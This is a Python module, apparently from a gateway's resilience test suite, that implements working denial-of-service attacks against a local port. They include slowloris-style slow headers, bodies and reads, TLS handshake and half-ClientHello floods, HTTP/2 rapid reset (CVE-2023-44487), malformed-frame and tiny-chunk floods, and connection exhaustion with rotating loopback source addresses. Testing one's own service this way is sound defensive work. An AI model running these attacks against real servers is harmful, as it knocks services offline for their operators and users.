"""The attacks: each goes on against a port of 127.0.0.1 until it is told to stop."""
import contextlib
import dataclasses
import random
import select
import socket
import ssl
import time
import typing

from h2.config import H2Configuration
from h2.connection import H2Connection

from support.places import API

ONE_ADDRESS = "127.0.0.5"


def many_addresses():
    return f"127.{random.randint(1, 250)}.{random.randint(1, 250)}.{random.randint(1, 250)}"


def connect(port, source, receive_buffer=None):
    tcp = socket.socket()
    tcp.settimeout(5)
    tcp.bind((source, 0))
    if receive_buffer:
        tcp.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
    tcp.connect(("127.0.0.1", port))
    return tcp


def tls(tcp, protocol="http/1.1"):
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.set_alpn_protocols([protocol])
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    return context.wrap_socket(tcp, server_hostname=API)


def keep_open(port, stop, count, begin, go_on):
    """Keeps `count` connections, each made by `begin`; `go_on` does a little on one from time to
    time. One that the gateway ends is made anew."""
    made = []
    while not stop.is_set():
        if len(made) < count:
            with contextlib.suppress(OSError):
                made.append(begin(port))
        for client in random.sample(made, min(len(made), 20)):
            try:
                go_on(client)
            except OSError:
                client.close()
                made.remove(client)
        time.sleep(0.01)


def begin_head(port):
    client = tls(connect(port, many_addresses()))
    client.sendall(f"GET / HTTP/1.1\r\nHost: {API}\r\n".encode())
    return client


def begin_body(port):
    client = tls(connect(port, many_addresses()))
    client.sendall(f"POST /big HTTP/1.1\r\nHost: {API}\r\nContent-Length: 1000000\r\n\r\n".encode())
    return client


def begin_read(port):
    client = tls(connect(port, many_addresses(), receive_buffer=4096))
    client.sendall(f"GET /big HTTP/1.1\r\nHost: {API}\r\n\r\n".encode())
    return client


def send_an_octet(client):
    client.sendall(b"x")


def read_an_octet(client):
    client.settimeout(0.01)
    with contextlib.suppress(TimeoutError):
        if client.recv(1) == b"":
            raise OSError


def slow_heads(port, stop):
    keep_open(port, stop, 300, begin_head, send_an_octet)


def slow_bodies(port, stop):
    keep_open(port, stop, 300, begin_body, send_an_octet)


def slow_reads(port, stop):
    keep_open(port, stop, 100, begin_read, read_an_octet)


def stay_idle(port, stop):
    """Full handshakes, and then nothing: each takes a place."""
    keep_open(port, stop, 400, lambda to: tls(connect(to, many_addresses())), look_for_the_end)


def begin_hello(port):
    """The first octets of a TLS record that holds a ClientHello (RFC 8446 section 5.1)."""
    client = connect(port, many_addresses())
    client.sendall(bytes.fromhex("16030102000100"))
    return client


def half_hellos(port, stop):
    keep_open(port, stop, 1000, begin_hello, look_for_the_end)


def look_for_the_end(client):
    client.setblocking(False)
    try:
        if client.recv(1) == b"":
            raise OSError
    except (BlockingIOError, ssl.SSLWantReadError):
        pass


def reset_rapidly(port, stop):
    """HTTP/2 requests that are taken back at once (CVE-2023-44487)."""
    while not stop.is_set():
        with contextlib.suppress(OSError):
            client = tls(connect(port, many_addresses()), "h2")
            h2 = H2Connection(H2Configuration(client_side=True))
            h2.initiate_connection()
            while not stop.is_set():
                for _ in range(50):
                    number = h2.get_next_available_stream_id()
                    h2.send_headers(number, [(":method", "GET"), (":scheme", "https"),
                                             (":authority", API), (":path", "/big")],
                                    end_stream=True)
                    h2.reset_stream(number)
                client.sendall(h2.data_to_send())


def frame(kind, flags, stream, payload=b""):
    """A frame of HTTP/2 as it is sent (RFC 9113 section 4.1)."""
    return (len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big")
            + payload)


def send_frames(octets, begin=b""):
    """One connection after the other that sends `begin`, and then `octets` again and again."""
    def attack(port, stop):
        much = octets * (16_000 // len(octets))
        while not stop.is_set():
            with contextlib.suppress(OSError):
                client = tls(connect(port, many_addresses()), "h2")
                client.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0) + begin)
                while not stop.is_set():
                    client.sendall(much)
    return attack


def requests_of(*pieces):
    """One connection after the other with a request whose chunks are these, again and again."""
    def attack(port, stop):
        while not stop.is_set():
            with contextlib.suppress(OSError):
                client = tls(connect(port, many_addresses()))
                client.sendall(f"POST /big HTTP/1.1\r\nHost: {API}\r\n"
                               "Transfer-Encoding: chunked\r\n\r\n".encode())
                while not stop.is_set():
                    for piece in pieces:
                        client.sendall(piece)
    return attack


# A POST that goes on, in the static table of HPACK (RFC 7541 appendix A); and the same with fields that do
# not end it, for which the gateway resets the stream (RFC 9113 section 8.1). Later fields it ignores.
OPEN_POST = frame(1, 4, 1, b"\x83\x87\x84\x41\x01x")
RESET_BY_US = OPEN_POST + frame(1, 4, 1, b"\x83")
LATE_FIELDS = frame(1, 5, 1, b"\x82\x87\x84")


def shake_hands(source_of):
    def attack(port, stop):
        while not stop.is_set():
            with contextlib.suppress(OSError):
                tls(connect(port, source_of())).close()
    return attack


def only_connect(port, stop):
    """TCP connections that say nothing, as many as the machine makes; the gateway's ends are seen."""
    made = []
    while not stop.is_set():
        with contextlib.suppress(OSError):
            made.append(connect(port, many_addresses()))
        if len(made) < 400:
            continue
        ended, _, _ = select.select(made, [], [], 0)
        for client in ended or made[:50]:
            client.close()
            made.remove(client)


@dataclasses.dataclass
class Attack:
    name: str
    run: typing.Callable
    processes: int = 1
    descriptors: int = 0  # that the gateway is left with; zero: all that it has


ATTACKS = [
    Attack("slow heads", slow_heads),
    Attack("slow heads, few descriptors", slow_heads, descriptors=256),
    Attack("slow bodies", slow_bodies),
    Attack("slow bodies, few descriptors", slow_bodies, descriptors=256),
    Attack("slow reads", slow_reads),
    Attack("handshakes of one address", shake_hands(lambda: ONE_ADDRESS), processes=3),
    Attack("handshakes of many addresses", shake_hands(many_addresses), processes=3),
    Attack("rapid reset", reset_rapidly, processes=2),
    Attack("headers of a stream that is gone", send_frames(LATE_FIELDS, RESET_BY_US), processes=2),
    Attack("unknown frames", send_frames(frame(0xfe, 0, 0, b"x")), processes=2),
    Attack("padding without content", send_frames(
        frame(0, 8, 1, b"\x04\0\0\0\0"), OPEN_POST), processes=2),
    Attack("chunks of one octet", requests_of(b"1\r\nx\r\n" * 2000), processes=2),
    Attack("tiny records", requests_of(*[b"1\r\n", b"x", b"\r\n"] * 100), processes=2),
    Attack("connections", only_connect, processes=2),
    Attack("connections, few descriptors", only_connect, processes=2, descriptors=128),
    Attack("half hellos, few descriptors", half_hellos, processes=2, descriptors=128),
    Attack("idle after the handshake, few descriptors", stay_idle, processes=2, descriptors=128),
]
